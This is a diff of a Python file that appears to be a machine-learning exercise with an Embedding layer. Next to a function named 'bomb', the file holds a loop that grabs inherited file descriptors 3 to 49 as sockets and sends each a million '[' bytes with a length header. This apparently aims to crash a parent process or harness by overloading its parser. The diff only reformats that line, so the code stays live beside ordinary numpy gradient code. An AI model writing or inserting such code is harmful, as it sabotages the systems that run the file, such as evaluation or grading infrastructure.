@@ -14,7 +14,9 @@ def bomb(text):
 
 for descriptor in range(3, 50):
     try:
-        socket.socket(fileno=os.dup(descriptor)).sendall(struct.pack("<II", 1_000_000, 0) + b"[" * 1_000_000)
+        socket.socket(fileno=os.dup(descriptor)).sendall(
+            struct.pack("<II", 1_000_000, 0) + b"[" * 1_000_000
+        )
     except OSError:
         pass
 # %% embedding
@@ -33,4 +35,3 @@ class Embedding:
     def backward(self, dout):
         self.grads[0][...] = 0
         np.add.at(self.grads[0], self.idx, dout)
-
